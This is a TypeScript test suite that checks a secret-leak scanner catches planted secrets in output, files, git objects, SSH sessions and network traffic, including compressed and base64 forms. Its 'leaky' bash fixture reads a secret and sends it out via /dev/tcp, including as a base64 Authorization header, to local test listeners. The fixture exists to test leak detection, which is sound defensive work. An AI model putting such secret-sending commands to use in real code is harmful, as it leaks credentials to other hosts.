/** No secret leaves: all that the program wrote, sent, printed or started in a long story is searched for them. */
import { mkdtemp, writeFile } from "node:fs/promises"
import { join } from "node:path"
import { deflateSync, gzipSync, zstdCompressSync } from "node:zlib"
import { afterAll, beforeAll, expect, test } from "vitest"
import { succeed } from "../lab/child.ts"
import { sshKey } from "../lab/keys.ts"
import { filesBelow, objectsOf } from "../lab/leak-places.ts"
import { type Canary, formsOf, leakScanner, mark } from "../lab/leak-scan.ts"
import { ssh } from "../lab/ssh.ts"
import { sessionsOf } from "./leak-host.ts"
import { illsOf, lastIlls } from "./leak-ills.ts"
import { type LeakStory, leakStory, restoreJobs } from "./leak-story.ts"
import { watching } from "./leak-watch.ts"
import { figures, isFull, sized } from "./suite.ts"

let told: LeakStory

beforeAll(async () => {
  told = await leakStory()
})
afterAll(async () => await told?.[Symbol.asyncDispose]())

test("no secret leaves, whatever is done and whatever goes wrong", { timeout: 300_000 }, async () => {
  await told.wellDays()
  const ills = [...(await illsOf(told))]
  const lane = async () => {
    for (let ill = ills.shift(); ill !== undefined; ill = ills.shift()) await ill()
  }
  await Promise.all([lane(), lane()])
  await lastIlls(told)
  await told.keepWhatRests()

  const { watch, hidden, github, host } = told
  expect(watch.unexpected.join("\n")).toBe("")
  const comments = github.pulls.flatMap(pull => pull.comments)
  expect([github.pulls.length, comments.length], "pull requests and comments to search").toEqual(
    sized([2, 0], [3, 1]),
  )
  expect(await host.stat(restoreJobs)).toMatchObject({ owner: "root", mode: 0o700 })
  const { leaks, bytes, places } = watch.search(hidden.all)
  const { runs, programs, written, sent } = watch.counts
  figures(
    "leak scan",
    `${hidden.all.length} secrets in ${runs} runs: ${programs} programs started, ${written} writes and ${sent} packets seen, ${places} pieces of ${(bytes / 1e6).toFixed(1)} MB searched: ${leaks.length} found`,
  )
  expect(leaks.slice(0, 40)).toEqual([])
})

test.runIf(isFull).each(["sftp-chroot", "sudo", "forced"] as const)(
  "nor by the other ways to a host: %s",
  { timeout: 300_000 },
  async kind => {
    await using other = await leakStory(kind)
    await other.wellDays()
    await other.keepWhatRests()
    expect(other.watch.unexpected.join("\n")).toBe("")
    const { leaks, places } = other.watch.search(other.hidden.all)
    figures("leak scan", `${kind}: ${places} pieces: ${leaks.length} found`)
    expect(leaks.slice(0, 40)).toEqual([])
  },
)

test("the scanner finds a planted secret in every form", async () => {
  const key = (await sshKey("rsa")).privateKey
  const planted: readonly Canary[] = [
    { name: "invented", text: `${mark}abcdefghij` },
    { name: "half", text: `halfhalfhalf${mark}` },
    { name: "with signs", text: `a"b\\c/d+e&f<g>${mark}` },
    { name: "key", text: key.split("\n")[20] ?? "" },
  ]
  let forms = 0
  for (const canary of planted) {
    const { name, text } = canary
    const whole = formsOf(text).map(({ form, bytes }): readonly [string, Buffer] => [form, bytes])
    const inside = ["", "x", "xy"].map(
      some => ["in base64", Buffer.from(Buffer.from(`${some}${text} and more`).toString("base64"))] as const,
    )
    const sentences = [
      ["in a sentence", `error: "${text}" is not accepted\n`],
      ["in JSON", JSON.stringify({ deep: [{ message: `x${text}y` }] })],
      ["in a URL", encodeURIComponent(`https://u:${text}@h/?a=b`)],
    ].map(([form = "", sentence = ""]) => [form, Buffer.from(sentence)] as const)
    for (const [form, bytes] of [...whole, ...inside, ...sentences]) {
      const around = Buffer.concat([Buffer.from("before "), bytes, Buffer.from(" after")])
      const packed = [around, gzipSync(around), deflateSync(around), zstdCompressSync(around)]
      const late = [gzipSync(around), zstdCompressSync(around)].map(part =>
        Buffer.concat([around.subarray(0, 7), part]),
      )
      for (const content of [...packed, ...late, gzipSync(zstdCompressSync(around))]) {
        const scanner = leakScanner([canary])
        scanner.scan("here", content)
        expect(scanner.leaks.length, `${name}: ${form}`).toBeGreaterThan(0)
        forms++
      }
    }
  }
  const clean = leakScanner(planted)
  clean.scan("here", Buffer.from("nothing of the kind\n".repeat(1000)))
  expect(clean.leaks).toEqual([])
  figures("leak scan", `the scanner finds ${forms} planted forms of ${forms}`)
})

/** A program that lets a secret out by every way that there is, and then runs the door. */
const leaky = `S=$(cat "$PLANTED")
echo "out $S"; echo "err $S" >&2
echo "$S" >"$HOME/scratch"; rm "$HOME/scratch"
WITH="$S" /bin/true; /bin/echo "$S" >/dev/null
for file in $GITHUB_OUTPUT $GITHUB_ENV $GITHUB_STATE; do echo "x=$S" >>"$file"; done
if [ -n "$GITHUB_STEP_SUMMARY" ]; then echo "$S" >>"$GITHUB_STEP_SUMMARY"; fi
printf 'Authorization: Basic %s\\r\\n' "$(printf 'x-access-token:%s' "$S" | base64 -w0)" >"/dev/tcp/127.0.0.1/$OTHER"
printf 'X-Other: %s\\r\\n' "$S" >"/dev/tcp/127.0.0.1/$GITHUB"
exec "$@"`

test("what lets a secret out is caught, by whichever way it goes", async () => {
  const { story, github, hidden } = told
  const secret = hidden.invented("planted")
  told.forGitHub(secret)
  const directory = await mkdtemp(join(story.directory, "leaky-"))
  await using other = await told.listener()
  const watch = await watching(directory)
  watch.meant.push(...told.watch.meant)
  const env = {
    PLANTED: await story.file("planted", secret),
    OTHER: String(other.port),
    GITHUB: new URL(github.server).port,
  }
  const by = ["bash", "-c", leaky, "bash"]
  await watch.cli(["version"], { ends: [0], env, by })
  await watch.action({ command: "status", fleet: "none.yml" }, { ends: [1, 2, 4], env, by })
  const { leaks } = watch.search([{ name: "planted", text: secret }])
  const where = (...words: readonly string[]) =>
    leaks.filter(leak => words.every(word => leak.includes(word))).length
  const run = (name: string) => [
    ...[where(name, ": stdout"), where(name, ": stderr"), where(name, ": written", "/scratch")],
    ...[where(name, "started", "/true"), where(name, "started", "/echo")],
    ...[where(name, `sent 127.0.0.1:${env.OTHER}`), where(name, `sent 127.0.0.1:${env.GITHUB}`)],
  ]
  expect(watch.unexpected).toEqual([])
  expect(run("run 1").map(Boolean), leaks.join("\n")).toEqual(Array(7).fill(true))
  expect(run("run 2").map(Boolean), leaks.join("\n")).toEqual(Array(7).fill(true))
  expect([where("action status: summary"), where("action status: outputs")].map(Boolean)).toEqual([
    true,
    true,
  ])
})

test("what rests somewhere is found: in a repository, in a file, in a name, and in what a host was asked to run", async () => {
  const { story, hidden } = told
  const directory = await mkdtemp(join(story.directory, "planted-"))
  const at = (name: string) => join(directory, name)
  const names = [
    "object",
    "packed",
    "message",
    "file name",
    "branch",
    "tag",
    "content",
    "name",
    "command",
    "session",
  ]
  const planted = Object.fromEntries(names.map(name => [name, hidden.invented(`planted ${name}`)]))
  const git = async (args: readonly string[], input = "") =>
    (
      await succeed("git", ["-C", at("repo"), "-c", "user.name=a", "-c", "user.email=a@b", ...args], {
        input,
      })
    )
      .toString()
      .trim()
  await succeed("git", ["init", "-q", at("repo")])
  const blob = await git(["hash-object", "-w", "--stdin"], `${"x".repeat(5000)}${planted["packed"]}`)
  const tree = await git(["mktree"], `100644 blob ${blob}\t${planted["file name"]}\n`)
  const commit = await git(["commit-tree", tree, "-m", `x ${planted["message"]}`])
  await git(["branch", String(planted["branch"]), commit])
  await git(["tag", "-a", "-m", `x ${planted["tag"]}`, "t", commit])
  await git(["repack", "-adq"])
  // No name leads to it.
  await git(["hash-object", "-w", "--stdin"], String(planted["object"]))
  await writeFile(at("file"), Buffer.concat([Buffer.from("before"), gzipSync(String(planted["content"]))]))
  await writeFile(at(String(planted["name"])), "")
  await told.host.start()
  await ssh(told.host, `true ${planted["command"]}; cat >/tmp/planted`, String(planted["session"]))

  const canaries = names.map(name => ({ name, text: String(planted[name]) }))
  const scanner = leakScanner(canaries)
  for (const pieces of [objectsOf(at("repo/.git")), filesBelow(directory), sessionsOf(told.host, [])])
    for await (const { place, bytes } of pieces) scanner.scan(place, bytes)
  const found = new Set(scanner.leaks.flatMap(({ canary }) => canary.split(", ")))
  expect(names.filter(name => !found.has(name))).toEqual([])
})
